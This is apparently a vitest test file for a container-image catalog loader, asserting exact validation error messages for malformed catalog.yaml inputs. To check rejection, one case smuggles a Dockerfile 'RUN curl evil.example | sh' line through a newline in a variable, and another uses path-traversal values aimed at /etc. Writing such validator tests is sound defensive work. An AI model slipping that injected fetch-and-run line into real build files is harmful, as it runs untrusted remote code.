import { describe, expect, it } from 'vitest';
import { EXAMPLE, errorsOf, yaml } from '../../test/helpers.js';
import { loadCatalog } from './load-catalog.js';

/** Each case: a catalog text and the exact error lines it must produce (file:line:col: path: message (hint)). */
const cases: { name: string; text: string; errors: (string | RegExp)[] }[] = [
  {
    name: 'invalid YAML',
    text: 'registry: r\nimages:\n  a: [unclosed\n',
    errors: [
      'catalog.yaml:4:1: images.a.0: invalid YAML: Flow sequence in block collection must be sufficiently indented and end with a ] (close it with the bracket named, or indent its next lines further)',
    ],
  },
  {
    name: 'a duplicate key',
    text: yaml`
      registry: r
      images:
        a: { kind: os, versions: { "1": {} } }
        a: { kind: os, versions: { "2": {} } }
    `,
    errors: [
      'catalog.yaml:4:3: images.a: duplicate key "a" (first at line 3, column 3) (each key may appear once in a map: merge the two entries or rename one)',
    ],
  },
  {
    name: 'duplicate keys, quoted and with line breaks, by their real key and key path',
    text: yaml`
      registry: r
      images:
        a: { kind: os, versions: { "3.13.5": {}, "3.13.5": {} } }
        b: { kind: os, versions: { "x\\ny": {}, "x\\ny": {}, 1: {}, "1": {} } }
    `,
    errors: [
      'catalog.yaml:3:44: images.a.versions.3.13.5: duplicate key "3.13.5" (first at line 3, column 30) (each key may appear once in a map: merge the two entries or rename one)',
      'catalog.yaml:4:42: images.b.versions."x\\ny": duplicate key "x\\ny" (first at line 4, column 30) (each key may appear once in a map: merge the two entries or rename one)',
      'catalog.yaml:4:42: images.b.versions."x\\ny": invalid version "x\\ny" (versions become tags: letters, digits, "_", "." and "-", at most 128)',
      'catalog.yaml:4:61: images.b.versions.1: duplicate key "1" (first at line 4, column 54) (each key may appear once in a map: merge the two entries or rename one)',
    ],
  },
  {
    name: 'an empty file',
    text: '# nothing yet\n',
    errors: ['catalog.yaml:1:1: the catalog is empty (start with "registry:" and "images:")'],
  },
  {
    name: 'an unknown lint rule, with did-you-mean',
    text: yaml`
      registry: r
      lint:
        rules:
          pip-no-cache-dir: warning
          apt-clean: off
      images:
        a: { kind: os, versions: { "1": {} } }
    `,
    errors: [
      'catalog.yaml:5:5: lint.rules.apt-clean: unknown lint rule "apt-clean"; did you mean "apt-cleanup"? (`catalog lint --list-rules` lists the rules and the hadolint codes they answer to, as does docs/lint-rules.md)',
    ],
  },
  {
    name: "hadolint's codes: one without counterpart, and one naming a rule already set",
    text: yaml`
      registry: r
      lint:
        rules:
          pip-no-cache-dir: warning
          DL3042: off
          DL3008: off
      images:
        a: { kind: os, versions: { "1": {} } }
    `,
    errors: [
      'catalog.yaml:5:5: lint.rules.DL3042: "DL3042" and "pip-no-cache-dir" both set the rule pip-no-cache-dir (keep one of the two)',
      'catalog.yaml:6:5: lint.rules.DL3008: unknown lint rule "DL3008": hadolint\'s DL3008 has no counterpart among catalog\'s lint rules (`catalog lint --list-rules` lists the rules and the hadolint codes they answer to, as does docs/lint-rules.md)',
    ],
  },
  {
    name: 'an unknown lint severity',
    text: yaml`
      registry: r
      lint: { rules: { from-latest: info } }
      images:
        a: { kind: os, versions: { "1": {} } }
    `,
    errors: [/^catalog\.yaml:2:31: lint\.rules\.from-latest: /],
  },
  {
    name: 'an unknown signing mode, with did-you-mean',
    text: 'registry: r\nsigning: offf\nimages:\n  a: { kind: os, versions: { "1": {} } }\n',
    errors: [
      'catalog.yaml:2:10: signing: unknown signing "offf"; did you mean "off"? (expected one of key, keyless, off)',
    ],
  },
  {
    name: 'a signing map with a wrong mode and an unknown key',
    text: 'registry: r\nsigning: { mode: keyles, kye: a.key }\nimages:\n  a: { kind: os, versions: { "1": {} } }\n',
    errors: [
      'catalog.yaml:2:18: signing.mode: unknown mode "keyles"; did you mean "keyless"? (expected one of key, keyless, off)',
      'catalog.yaml:2:26: signing.kye: unknown key "kye"; did you mean "key"? (allowed keys: mode, key)',
    ],
  },
  {
    name: 'an empty images map',
    text: 'registry: r\nimages: {}\n',
    errors: ['catalog.yaml:2:9: images: the catalog defines no images (add at least one image under "images:")'],
  },
  {
    name: 'unknown keys, with did-you-mean',
    text: yaml`
      registry: r
      imagez: {}
      images:
        a:
          kind: os
          varaints: {}
          versions: { "1": {} }
    `,
    errors: [
      /^catalog\.yaml:2:1: imagez: unknown key "imagez"; did you mean "images"\? \(allowed keys: registry, labels, mirrors, builder, lint, signing, vars, platforms, images\)$/,
      /^catalog\.yaml:6:5: images\.a\.varaints: unknown key "varaints"; did you mean "variants"\?/,
    ],
  },
  {
    name: 'a misspelled reserved key in a version entry',
    text: yaml`
      registry: r
      images:
        a:
          kind: os
          versions: { "1": { form: x } }
    `,
    errors: [
      'catalog.yaml:5:24: images.a.versions.1.form: unknown key "form"; did you mean "from"? (rename it, or give the template variable another name)',
    ],
  },
  {
    name: 'wrong types and a missing required key',
    text: yaml`
      registry: 5
      images:
        a:
          versions: [1]
    `,
    errors: [
      'catalog.yaml:1:11: registry: expected string, got number 5 (write text here, in quotes if YAML would read it as a number, true, false or null)',
      'catalog.yaml:3:3: images.a.kind: missing required key "kind" (add "kind:" here)',
      'catalog.yaml:4:15: images.a.versions: expected map, got a list (write a map here: one "key: value" per entry, or { key: value })',
    ],
  },
  {
    name: 'an unknown kind',
    text: 'registry: r\nimages:\n  a: { kind: servce, versions: { "1": {} } }\n',
    errors: [
      'catalog.yaml:3:14: images.a.kind: unknown kind "servce"; did you mean "service"? (expected one of os, runtime, framework, app)'.replace(
        '; did you mean "service"?',
        '',
      ),
    ],
  },
  {
    name: 'an unknown OS family, with did-you-mean',
    text: 'registry: r\nimages:\n  a: { kind: os, family: debain, versions: { "1": {} } }\n',
    errors: [
      'catalog.yaml:3:26: images.a.family: unknown OS family "debain"; did you mean "debian"? (known families: debian)',
    ],
  },
  {
    name: 'a missing parent',
    text: 'registry: r\nimages:\n  a: { kind: runtime, versions: { "1": {} } }\n',
    errors: [/^catalog\.yaml:3:35: images\.a\.versions\.1: "a:1" has no parent \(add "from: <image>:<version>"/],
  },
  {
    name: 'an unknown parent image, with did-you-mean',
    text: EXAMPLE.replace('python3.11: { from: python:3.11.2 }', 'python3.11: { from: pyhton:3.11.2 }'),
    errors: [
      'catalog.yaml:19:27: images.flask.variants.python3.11.from: unknown image "pyhton"; did you mean "python"? (images of this catalog: debian, pyenv, python, flask, hello)',
    ],
  },
  {
    name: 'an unknown image that looks external',
    text: EXAMPLE.replace('from: debian:13', 'from: ubuntu:24.04'),
    errors: [
      'catalog.yaml:8:11: images.pyenv.from: unknown image "ubuntu" in this catalog (external parents are fully qualified, e.g. docker.io/library/ubuntu:24.04)',
    ],
  },
  {
    name: 'a parent version that does not exist',
    text: EXAMPLE.replace('from: pyenv:2.5.4', 'from: pyenv:2.5.3'),
    errors: [
      'catalog.yaml:12:11: images.python.from: image "pyenv" has no version "2.5.3"; did you mean "2.5.4"? (versions: 2.5.4)',
    ],
  },
  {
    name: 'a parent variant that does not exist',
    text: EXAMPLE.replace('from: flask:3.1.1-python3.13', 'from: flask:3.1.1-python3.12'),
    errors: [
      'catalog.yaml:22:11: images.hello.from: image "flask" has no variant "python3.12"; did you mean "python3.13"? (variants: python3.13, python3.11)',
    ],
  },
  {
    name: 'a parent with no version',
    text: EXAMPLE.replace('from: debian:13', 'from: debian'),
    errors: [
      'catalog.yaml:8:11: images.pyenv.from: parent "debian" names no version (write debian:<version>, one of: 13)',
    ],
  },
  {
    name: 'an external parent on latest or unpinned',
    text: yaml`
      registry: r
      images:
        a: { kind: os, from: docker.io/library/debian:latest, versions: { "1": {} } }
        b: { kind: os, from: docker.io/library/debian, versions: { "1": {} } }
    `,
    errors: [
      /^catalog\.yaml:3:24: images\.a\.from: external parent "docker\.io\/library\/debian:latest" uses "latest"/,
      /^catalog\.yaml:4:24: images\.b\.from: external parent "docker\.io\/library\/debian" has no tag or digest/,
    ],
  },
  {
    name: 'an app used as a parent',
    text: `${EXAMPLE}  plugin:\n    kind: app\n    from: hello:1.0.0\n    versions: { "1.0.0": {} }\n`,
    errors: [/^catalog\.yaml:26:11: images\.plugin\.from: "hello" is an app; apps cannot be parents/],
  },
  {
    name: 'a dependency cycle, printed whole',
    text: yaml`
      registry: r
      images:
        a: { kind: runtime, from: c:1, versions: { "1": {} } }
        b: { kind: runtime, from: a:1, versions: { "1": {} } }
        c: { kind: runtime, from: b:1, versions: { "1": {} } }
    `,
    errors: [/^catalog\.yaml:3:29: images\.a\.from: dependency cycle: a:1 → c:1 → b:1 → a:1/],
  },
  {
    name: 'duplicate node ids',
    text: yaml`
      registry: r
      images:
        a:
          kind: os
          versioning: semver
          versions: { "1.0.0": {}, "1.0.0-x": {} }
          variants: { x-y: { default: true }, y: {} }
    `,
    errors: [
      'catalog.yaml:6:17: images.a.versions.1.0.0: node id "a:1.0.0-x-y" is produced twice: by version "1.0.0" with variant "x-y" and by version "1.0.0-x" with variant "y" (rename the version or the variant so ids stay unique)',
    ],
  },
  {
    name: 'two default variants',
    text: EXAMPLE.replace('python3.11: { from: python:3.11.2 }', 'python3.11: { from: python:3.11.2, default: true }'),
    errors: [
      'catalog.yaml:19:51: images.flask.variants.python3.11.default: variants "python3.13" and "python3.11" are both marked default (keep "default: true" on one variant only)',
    ],
  },
  {
    name: 'invalid version strings',
    text: yaml`
      registry: r
      images:
        a: { kind: os, versions: { "3.13.x": {} } }
        b: { kind: app, from: a:3.13.x, versions: { "1.0": {} } }
        c: { kind: os, versions: { "bad version": {} } }
    `,
    errors: [
      'catalog.yaml:3:30: images.a.versions.3.13.x: invalid version "3.13.x" (expected a PEP 440 version such as 3.13.5 or 3.14.0rc1 (no epoch or local part))',
      'catalog.yaml:4:47: images.b.versions.1.0: invalid version "1.0" (expected a semantic version such as 1.4.2 or 2.0.0-rc.1 (no build metadata))',
      /^catalog\.yaml:5:30: images\.c\.versions\.bad version: invalid version "bad version" \(versions become tags/,
    ],
  },
  {
    name: 'a version restricted to an unknown variant',
    text: yaml`
      registry: r
      images:
        a:
          kind: os
          versions: { "1": { variants: [slimm] } }
          variants: { slim: { default: true } }
    `,
    errors: [
      'catalog.yaml:5:35: images.a.versions.1.variants.0: unknown variant "slimm"; did you mean "slim"? (variants of this image: slim)',
    ],
  },
  {
    name: 'paths that leave the catalog folder',
    text: yaml`
      registry: r
      images:
        a:
          kind: os
          template: ../../../../etc/hostname
          context: /etc
          prepare: { run: [make], file: ../../x }
          versions: { "1": {} }
        b:
          kind: os
          template: images/../..\\secret
          context: images/b/../../..
          prepare: { run: [make], file: sub/.. }
          versions: { "1": {} }
    `,
    errors: [
      'catalog.yaml:5:15: images.a.template: template "../../../../etc/hostname" goes up out of the folder with "..": it must name a file inside the catalog\'s folder (write a path relative to the catalog\'s folder that stays inside it, e.g. images/a/Dockerfile.hbs)',
      'catalog.yaml:6:14: images.a.context: context "/etc" is absolute: it must name a folder inside the catalog\'s folder (write a path relative to the catalog\'s folder that stays inside it, e.g. images/a/)',
      'catalog.yaml:7:35: images.a.prepare.file: file "../../x" goes up out of the folder with "..": it must name a file inside the build context (write a path relative to the build context that stays inside it, e.g. rootfs.tar)',
      /^catalog\.yaml:11:15: images\.b\.template: template "images\/\.\.\/\.\.\\\\secret" goes up out of the folder/,
      /^catalog\.yaml:12:14: images\.b\.context: context "images\/b\/\.\.\/\.\.\/\.\." goes up/,
      /^catalog\.yaml:13:35: images\.b\.prepare\.file: file "sub\/\.\." names the folder itself/,
    ],
  },
  {
    name: 'values that would break a Dockerfile (no templates needed)',
    text: yaml`
      registry: r
      labels: { vendor: "Acme\\rLABEL x=y" }
      vars: { motd: "hello\\nRUN curl evil.example | sh" }
      mirrors: { pypi: "https://pypi.org/simple\\u0007" }
      images:
        a:
          kind: os
          description: "ends in a backslash \\\\"
          versions: { "1": { greeting: [ok, "line\\nbreak"] } }
          variants: { slim: { default: true, note: "tab\\tis fine", other: "bell\\u0007" } }
    `,
    errors: [
      'catalog.yaml:2:19: labels.vendor: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:3:15: vars.motd: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:4:18: mirrors.pypi: value contains a control character (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:8:18: images.a.description: value ends with a backslash, which would continue the line into the next instruction (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:9:39: images.a.versions.1.greeting.1: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:10:69: images.a.variants.slim.other: value contains a control character (values end up in Dockerfiles: keep them on one line)',
    ],
  },
  {
    name: 'unquoted versions that YAML reads as other numbers',
    text: yaml`
      registry: r
      images:
        python:
          kind: os
          versions: { 3.10: {}, 3.9: {}, 13: {}, "3.11": {}, 010: {} }
        flask:
          kind: runtime
          from: python:3.10
          versions:
            1.0: {}
            2.0.1: {}
    `,
    errors: [
      'catalog.yaml:5:17: images.python.versions.3.10: version 3.10 is not quoted: YAML reads it as the number 3.1 (write "3.10")',
      'catalog.yaml:5:56: images.python.versions.010: version 010 is not quoted: YAML reads it as the number 10 (write "010")',
      'catalog.yaml:10:7: images.flask.versions.1.0: version 1.0 is not quoted: YAML reads it as the number 1 (write "1.0")',
    ],
  },
  {
    name: 'numbers where text is expected, quoted as written when YAML changed them',
    text: yaml`
      registry: r
      images:
        a: { kind: os, title: 2, description: 1.50, tags: { latest: 3.10 }, versions: { "1": {} } }
    `,
    errors: [
      'catalog.yaml:3:25: images.a.title: expected string, got number 2 (write text here, in quotes if YAML would read it as a number, true, false or null)',
      'catalog.yaml:3:41: images.a.description: expected string, got number 1.5 (write "1.50")',
      'catalog.yaml:3:63: images.a.tags.latest: expected boolean or string, got number 3.1 (write "3.10")',
    ],
  },
  {
    name: 'a key with a line break, on one line',
    text: 'registry: r\n"x\\ny\\u0007": 1\nimages:\n  a: { kind: os, versions: { "1": {} } }\n',
    errors: [/^catalog\.yaml:2:1: "x\\ny\\u0007": unknown key "x\\ny\\u0007" \(allowed keys: /],
  },
];

/** Orders formatted errors by line, then column, as the report does. */
function byPosition(a: string, b: string): number {
  const at = (e: string) => (/^[^:]+:(\d+):(\d+):/.exec(e) ?? []).slice(1).map(Number);
  const [la = 0, ca = 0] = at(a);
  const [lb = 0, cb = 0] = at(b);
  return la - lb || ca - cb;
}

describe('validation errors', () => {
  it.each(cases)('reports $name with file:line:col and key path', ({ text, errors }) => {
    const actual = errorsOf(text);
    expect(actual).toHaveLength(errors.length);
    errors.forEach((expected, i) => {
      if (typeof expected === 'string') expect(actual[i]).toBe(expected);
      else expect(actual[i]).toMatch(expected);
    });
  });

  it('reports every error of an image, a schema error hiding none of the others', () => {
    const text = yaml`
      registry: r
      images:
        a:
          kind: osx
          versioning: pep440
          from: pyhton:1
          title: 5
          versions: { "3.13.x": {}, "2": { form: x }, "3": { from: 7 } }
          variants: { a: { default: true }, b: { default: true } }
        python: { kind: os, versions: { "1": {} } }
        c:
          kind: runtime
          from: python:9
          versions: { "1.0.x": {} }
    `;
    expect(errorsOf(text)).toEqual(
      [
        'catalog.yaml:4:11: images.a.kind: unknown kind "osx"; did you mean "os"? (expected one of os, runtime, framework, app)',
        'catalog.yaml:6:11: images.a.from: unknown image "pyhton"; did you mean "python"? (images of this catalog: python)',
        'catalog.yaml:7:12: images.a.title: expected string, got number 5 (write text here, in quotes if YAML would read it as a number, true, false or null)',
        'catalog.yaml:8:17: images.a.versions.3.13.x: invalid version "3.13.x" (expected a PEP 440 version such as 3.13.5 or 3.14.0rc1 (no epoch or local part))',
        'catalog.yaml:8:38: images.a.versions.2.form: unknown key "form"; did you mean "from"? (rename it, or give the template variable another name)',
        'catalog.yaml:8:62: images.a.versions.3.from: expected string, got number 7 (write text here, in quotes if YAML would read it as a number, true, false or null)',
        'catalog.yaml:9:53: images.a.variants.b.default: variants "a" and "b" are both marked default (keep "default: true" on one variant only)',
        'catalog.yaml:14:17: images.c.versions.1.0.x: invalid version "1.0.x" (expected a PEP 440 version such as 3.13.5 or 3.14.0rc1 (no epoch or local part))',
        'catalog.yaml:13:11: images.c.from: image "python" has no version "9"; did you mean "1"? (versions: 1)',
      ].sort(byPosition),
    );
  });

  it('checks the valid top-level settings when another one is wrong', () => {
    const text = yaml`
      registry: 5
      labels: { vendor: "a\\nb" }
      mirrors: { "bad-name": x, evil: "y\\nRUN z" }
      images:
        a: { kind: os, versions: { "1": {} } }
    `;
    expect(errorsOf(text)).toEqual([
      'catalog.yaml:1:11: registry: expected string, got number 5 (write text here, in quotes if YAML would read it as a number, true, false or null)',
      'catalog.yaml:2:19: labels.vendor: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
      'catalog.yaml:3:12: mirrors.bad-name: invalid mirror name "bad-name" (mirror names are identifiers (they become MIRROR_<NAME>): letters, digits and "_")',
      'catalog.yaml:3:33: mirrors.evil: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
    ]);
  });

  it('goes on after duplicate keys: every other problem is reported too', () => {
    const text = yaml`
      registry: r
      images:
        a: { kind: os, versions: { "1": {} } }
        a: { kind: osx, versions: { "2": {} } }
        b: { kind: runtime, from: nope:1, versions: { "1": {} } }
    `;
    expect(errorsOf(text)).toEqual([
      'catalog.yaml:4:3: images.a: duplicate key "a" (first at line 3, column 3) (each key may appear once in a map: merge the two entries or rename one)',
      'catalog.yaml:4:14: images.a.kind: unknown kind "osx"; did you mean "os"? (expected one of os, runtime, framework, app)',
      'catalog.yaml:5:29: images.b.from: unknown image "nope" in this catalog (external parents are fully qualified, e.g. docker.io/library/nope:1)',
    ]);
  });

  it('reports every error of a file in one run, across images', () => {
    const text = yaml`
      registry: r
      images:
        a: { kind: osx, versions: { "1": {} } }
        b: { kind: runtime, from: nope:1, versions: { "1": {} } }
        c: { kind: runtime, from: a:1, versions: { "x y": {} } }
    `;
    const errors = errorsOf(text);
    expect(errors.map((e) => e.split(': ')[1])).toEqual(['images.a.kind', 'images.b.from', 'images.c.versions.x y']);
  });
});

describe('the builder engine', () => {
  const withBuilder = (name: string) => `${EXAMPLE}builder: { name: ${name} }\n`;
  /** Engine names are the caller's (@catalog/builders' registry); these stand in for them. */
  const builderNames = ['first', 'second'];

  it('must be one of the engines the caller names, with did-you-mean and the position', () => {
    expect(errorsOf(withBuilder('secnod'), { builderNames })).toEqual([
      'catalog.yaml:24:18: builder.name: unknown name "secnod"; did you mean "second"? (expected one of first, second)',
    ]);
    expect(loadCatalog(withBuilder('second'), 'catalog.yaml', { builderNames }).catalog.builder.name).toBe('second');
  });

  it('is any non-empty name when the caller names no engines', () => {
    expect(loadCatalog(withBuilder('secnod'), 'catalog.yaml').catalog.builder.name).toBe('secnod');
    expect(errorsOf(withBuilder('""'))).toEqual([
      'catalog.yaml:24:18: builder.name: must not be empty (write a value)',
    ]);
  });
});
